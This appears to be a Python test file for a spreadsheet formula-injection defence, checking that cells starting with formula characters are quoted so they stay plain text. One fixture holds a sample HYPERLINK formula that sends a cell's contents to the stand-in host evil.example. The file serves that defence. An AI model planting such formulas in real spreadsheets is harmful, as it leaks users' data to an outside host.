"""Spreadsheet cells hold what was typed, never a formula (issue 19, item 2)."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook

from core.cells import FORMULA_STARTS, neutral_text, neutralise_sheet


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_leading_formula_character_is_quoted(start):
    assert neutral_text(f"{start}HYPERLINK(1)") == f"'{start}HYPERLINK(1)"


def test_ordinary_text_is_left_alone():
    assert neutral_text("PO 4500-778") == "PO 4500-778"
    assert neutral_text("港湾服饰") == "港湾服饰"
    assert neutral_text("") == ""


@given(st.text(max_size=40))
def test_no_text_leaves_neutral_text_looking_like_a_formula(text):
    assert not neutral_text(text).startswith(FORMULA_STARTS)
    assert neutral_text(text).endswith(text)


def test_a_sheet_keeps_text_as_strings_and_numbers_as_numbers():
    book = Workbook()
    sheet = book.active
    sheet.append(['=HYPERLINK("https://evil.example/?d="&B2,"Open PO")', -3, "@SUM(A1)"])

    neutralise_sheet(sheet)

    formula, number, at = sheet[1]
    assert formula.data_type == "s" and formula.value.startswith("'=")
    assert number.value == -3 and number.data_type == "n"
    assert at.value == "'@SUM(A1)"
